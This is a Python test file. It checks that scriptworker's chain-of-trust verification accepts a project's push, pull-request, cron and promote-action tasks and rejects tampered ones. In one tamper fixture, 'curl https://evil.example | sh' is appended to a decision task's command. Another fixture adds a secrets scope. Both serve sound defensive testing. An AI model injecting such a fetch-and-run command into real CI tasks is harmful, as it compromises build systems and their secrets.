"""scriptworker's chain of trust accepts our decision and action tasks.

Before a scriptworker task trusts a graph it rebuilds every decision and action task upstream
of it from `.taskcluster.yml` at the task's revision, with the json-e context it reconstructs
from the task itself and GitHub, and compares the result with the task the queue holds
(`scriptworker.cot.verify.verify_parent_task_definition`). Here the tasks are made the way the
services make them (the GitHub service for pushes and pull requests, fxci's build-decision for
cron, the hooks service firing ci-admin's in-tree action hook for actions), completed with the
queue's defaults as `queue.task()` returns them, and checked offline: a fake GitHub serves this
checkout's `.taskcluster.yml`, the commit and the pull request.
"""

from __future__ import annotations

import asyncio
import copy
import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, ClassVar
from unittest import mock

import jsone
import pytest
import scriptworker.cot.verify as cotverify
import slugid
import yaml
from scriptworker.config import apply_product_config
from scriptworker.constants import DEFAULT_CONFIG
from scriptworker.context import Context
from scriptworker.exceptions import CoTError
from taskgraph.actions import render_actions_json
from taskgraph.config import load_graph_config
from taskgraph.parameters import Parameters

import cib_decision.taskgraph.actions  # noqa: F401  (registers the promote action)
from cib_decision import action_hooks
from cib_decision import github_events as events
from cib_decision.cli import build_parser
from cib_decision.cli.decision import OPTION_NAMES
from cib_decision.dev_event import command_words

from .conftest import ROOT

TEMPLATE_TEXT = (ROOT / ".taskcluster.yml").read_text()
TEMPLATE = yaml.safe_load(TEMPLATE_TEXT)
REPO = events.repository("example/images")
FORK = events.repository("someone/images")
HEAD, BASE = "c" * 40, "d" * 40
NOW = "2026-11-21T12:00:00.000Z"  # as the queue returns dates (JavaScript's Date.toJSON)
ROOT_URL = "https://tc.example.com"
PROMOTE_INPUT = {"key": "win2022-64", "from": "staging", "to": "production"}


# ------------------------------------------------------------ tasks as the services make them
def as_queue_returns(task: dict[str, Any]) -> dict[str, Any]:
    """`queue.task()` of a created task: createTask's schema defaults filled in, the task
    queue id and project id added (services/queue/src/data.js `definition`)."""
    stored = {"schedulerId": "-", "projectId": "none", "dependencies": [],
              "requires": "all-completed", "routes": [], "priority": "lowest", "retries": 5,
              "scopes": [], "tags": {}, "extra": {}, **task}
    stored.setdefault("taskQueueId", f"{stored['provisionerId']}/{stored['workerType']}")
    return stored


def github_service_task(tasks_for: str, event: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    """The GitHub service (tc-yaml.js, version 1): render, take the taskId out, default the
    group, creation time and scheduler, add the reporting route."""
    context = events.github_context(tasks_for, event, ROOT_URL, NOW)
    (task,) = events.render_tasks(TEMPLATE, context)
    task_id = task.pop("taskId", None) or slugid.nice()
    task = {"schedulerId": "taskcluster-github", "created": NOW, "taskGroupId": task_id, **task}
    route = "checks" if TEMPLATE.get("reporting") else "statuses"
    task["routes"] = list(dict.fromkeys([*task.get("routes", []), route]))
    return task_id, as_queue_returns(task)


def cron_task(job_name: str = "nightly") -> tuple[str, dict[str, Any]]:
    """fxci's build-decision for a git repository (cron/decision.py `render_tc_yml`): the
    projects.yml alias is the repository's name."""
    context = {"tasks_for": "cron", "now": NOW, "taskcluster_root_url": ROOT_URL,
               "ownTaskId": slugid.nice(),
               "repository": {"url": REPO["html_url"], "project": REPO["name"], "level": "3",
                              "type": "git"},
               "push": {"branch": "main", "revision": HEAD, "owner": "cron"},
               "cron": {"task_id": slugid.nice(), "job_name": job_name, "job_symbol": "N",
                        "quoted_args": "--target-tasks-method=cib", "input": {}}}
    (task,) = events.render_tasks(TEMPLATE, context)
    return task.pop("taskId"), as_queue_returns(task)


def actions_json(decision: dict[str, Any], decision_id: str) -> dict[str, Any]:
    """The decision's `public/actions.json`: taskgraph's own rendering, with the parameters
    `cib decision` gets from the decision task's command line."""
    script = decision["payload"]["command"][0][-1]
    argv = command_words(script[script.index(".venv/bin/cib decision"):],
                         decision["payload"]["env"])[1:]
    args = build_parser().parse_args(argv)
    parameters = Parameters(**{name: getattr(args, name) for name in OPTION_NAMES},
                            cib_pull_request=0)
    graph_config = load_graph_config(str(ROOT / "taskcluster"))
    return render_actions_json(parameters, graph_config, decision_id)


def action_task(action: dict[str, Any], decision_id: str,
                user_input: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    """The hooks service firing the action's hook (hooks/src/taskcreator.js) for a trigger on
    the decision's task group, with the hook payload the UI renders from actions.json."""
    payload = jsone.render(action["hookPayload"],
                           {"input": user_input, "taskId": None, "taskGroupId": decision_id})
    task_id = slugid.nice()
    # fxci's in-tree action hook around our .taskcluster.yml, rendered as the service does
    task = action_hooks.render_hook_task(
        action_hooks.hook_task_template(TEMPLATE, action["extra"]["actionPerm"]), payload,
        "mozilla-auth0/ad|releng", NOW, task_id)
    return task_id, as_queue_returns(task)


# ------------------------------------------------------------------ scriptworker, offline
def api_pull_request(event: dict[str, Any]) -> dict[str, Any]:
    """GitHub's `GET /repos/{o}/{r}/pulls/{n}` for the pull request of `event`."""
    pull_request = copy.deepcopy(event["pull_request"])
    for side in ("head", "base"):
        pull_request[side]["user"] = {"login": pull_request[side]["label"].split(":")[0]}
    return pull_request


class FakeGitHub:
    """scriptworker.github.GitHubRepository without the network: `.taskcluster.yml` at HEAD,
    a commit pushed by `dev`, the repositories and pull requests of `PULL_REQUESTS`."""

    PULL_REQUESTS: ClassVar[dict[int, dict[str, Any]]] = {}

    def __init__(self, context: Context, owner: str, repo_name: str) -> None:
        self.full_name = f"{owner}/{repo_name}"

    async def get_file_contents(self, path: str, ref: str | None = None) -> str:
        if (path, ref) != (".taskcluster.yml", HEAD):
            raise FileNotFoundError(f"{self.full_name}: no {path} at {ref}")
        return TEMPLATE_TEXT

    async def get_commit(self, sha: str) -> dict[str, Any]:
        return {"sha": sha, "committer": {"login": "dev"}, "author": {"login": "dev"}}

    async def get_definition(self) -> dict[str, Any]:
        if self.full_name == FORK["full_name"]:
            return {**FORK, "fork": True,
                    "parent": {"owner": {"login": "example"}, "name": REPO["name"]}}
        return {**REPO, "fork": False}

    async def get_pull_request(self, number: int) -> dict[str, Any]:
        assert self.full_name == REPO["full_name"], "pull requests live in the base repository"
        return copy.deepcopy(self.PULL_REQUESTS[number])


def cot_context(work_dir: Path) -> Context:
    """scriptworker's context for a GitHub project whose decision tasks carry CIB_* variables;
    projects.yml (the cron level) already loaded."""
    config = apply_product_config({**DEFAULT_CONFIG, "cot_product": "scriptworker"})
    config.update(work_dir=str(work_dir), cot_product_type="github", source_env_prefix="CIB",
                  valid_tasks_for=("action", "cron", "github-pull-request",
                                   "github-pull-request-untrusted", "github-push"))
    context = Context()
    context.config, context.credentials = config, None
    context.projects = {REPO["name"]: {"repo": REPO["html_url"], "repo_type": "git",
                                       "default_branch": "main",
                                       "branches": [{"name": "main", "level": 3}]}}
    context._projects_timestamp = time.time()
    # the task verifying the chain: a scriptworker task of another task group
    context.task = {"taskGroupId": slugid.nice(), "provisionerId": "scriptworker-k8s",
                    "workerType": "signing", "schedulerId": "-", "scopes": [], "payload": {},
                    "metadata": {"source": "", "owner": ""}}
    return context


def verify(work_dir: Path, task_id: str, task: dict[str, Any],
           decision: tuple[str, dict[str, Any], dict[str, Any]] | None = None) -> None:
    """Rebuild and compare the decision task `task_id`, or with `decision` (its id, task and
    actions.json) the action task `task_id`; CoTError when scriptworker refuses it."""
    context = cot_context(work_dir)
    links = []
    if decision is not None:
        decision_id, decision_task, actions = decision
        decision_link = cotverify.LinkOfTrust(context, "decision", decision_id)
        decision_link.task = decision_task
        path = Path(decision_link.get_artifact_full_path("public/actions.json"))
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps(actions))
        links.append(decision_link)
    link = cotverify.LinkOfTrust(context, "action" if decision else "decision", task_id)
    link.task = task
    chain = cotverify.ChainOfTrust(context, "signing", task_id=slugid.nice())
    chain.links = [*links, link]
    with mock.patch.object(cotverify, "GitHubRepository", FakeGitHub):
        asyncio.run(cotverify.verify_parent_task_definition(chain, link))


def push_decision() -> tuple[str, dict[str, Any]]:
    return github_service_task("github-push", events.push_event(
        REPO, HEAD, BASE, "Rebuild\n\ninclude keys: win2022-64"))


def promote_action() -> tuple[str, dict[str, Any], tuple[str, dict[str, Any], dict[str, Any]]]:
    decision_id, decision = push_decision()
    actions = actions_json(decision, decision_id)
    (promote,) = [a for a in actions["actions"] if a["name"] == "promote"]
    task_id, task = action_task(promote, decision_id, PROMOTE_INPUT)
    return task_id, task, (decision_id, decision, actions)


# ------------------------------------------------------------------------------ the tests
def test_a_push_to_main_decision_passes_the_rebuild(tmp_path):
    task_id, task = push_decision()
    verify(tmp_path, task_id, task)


@pytest.mark.parametrize(("action", "head_repo"), [
    ("opened", REPO), ("opened", FORK), ("synchronize", REPO), ("reopened", FORK)],
    ids=["opened", "opened-from-a-fork", "synchronize", "reopened-from-a-fork"])
def test_a_trusted_pull_request_decision_passes_the_rebuild(tmp_path, action, head_repo):
    event = events.pull_request_event(action, 17, REPO, HEAD, BASE, head_repo=head_repo)
    task_id, task = github_service_task("github-pull-request", event)
    with mock.patch.dict(FakeGitHub.PULL_REQUESTS, {17: api_pull_request(event)}):
        verify(tmp_path, task_id, task)


def test_a_closed_pull_requests_decision_is_refused_as_scriptworker_rebuilds_synchronize(
        tmp_path):
    """scriptworker has no record of a pull request event's action and rebuilds `synchronize`,
    so only the decision of a closed pull request (its graph: the teardown of the per-PR
    pools, no scriptworker task to verify it) differs from its rebuild."""
    event = events.pull_request_event("closed", 17, REPO, HEAD, BASE, head_repo=REPO)
    task_id, task = github_service_task("github-pull-request", event)
    with (mock.patch.dict(FakeGitHub.PULL_REQUESTS, {17: api_pull_request(event)}),
          pytest.raises(CoTError) as refused):
        verify(tmp_path, task_id, task)
    message = refused.value.args[0]
    assert "the runtime task doesn't match any rebuilt definition" in message
    assert "payload.env.CIB_PULL_REQUEST_ACTION" in message


def test_a_cron_decision_passes_the_rebuild(tmp_path):
    task_id, task = cron_task()
    verify(tmp_path, task_id, task)


def test_a_promote_action_task_passes_the_rebuild_from_its_decision(tmp_path):
    task_id, task, decision = promote_action()
    assert task["payload"]["env"]["ACTION_CALLBACK"] == "promote"
    verify(tmp_path, task_id, task, decision)


def _change(path: str, change: Callable[[Any], Any]) -> Callable[[dict[str, Any]], None]:
    """Replace the value at the dotted `path` of a task by `change(value)`."""
    def apply(task: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        holder = task
        for key in parents:
            holder = holder[key]
        holder[last] = change(holder[last])
    return apply


@pytest.mark.parametrize(("made", "field", "tamper"), [
    ("push", "scopes", _change(
        "scopes", lambda scopes: [*scopes, "secrets:get:project/cib/level-3"])),
    ("push", "command", _change("payload.command", lambda command: [
        [*command[0][:-1], command[0][-1] + " && curl https://evil.example | sh"]])),
    ("action", "ACTION_INPUT", _change("payload.env.ACTION_INPUT", lambda _: json.dumps(
        {**PROMOTE_INPUT, "from": "untested"}))),
], ids=["push-extra-scope", "push-changed-command", "action-changed-input"])
def test_a_task_that_differs_from_its_rebuild_is_refused(tmp_path, made, field, tamper):
    if made == "push":
        (task_id, task), decision = push_decision(), None
    else:
        task_id, task, decision = promote_action()
    verify(tmp_path, task_id, copy.deepcopy(task), decision)  # as made, it passes
    tamper(task)
    with pytest.raises(CoTError) as refused:
        verify(tmp_path / "again", task_id, task, decision)
    message = refused.value.args[0]
    assert "the runtime task doesn't match any rebuilt definition" in message
    assert field in message
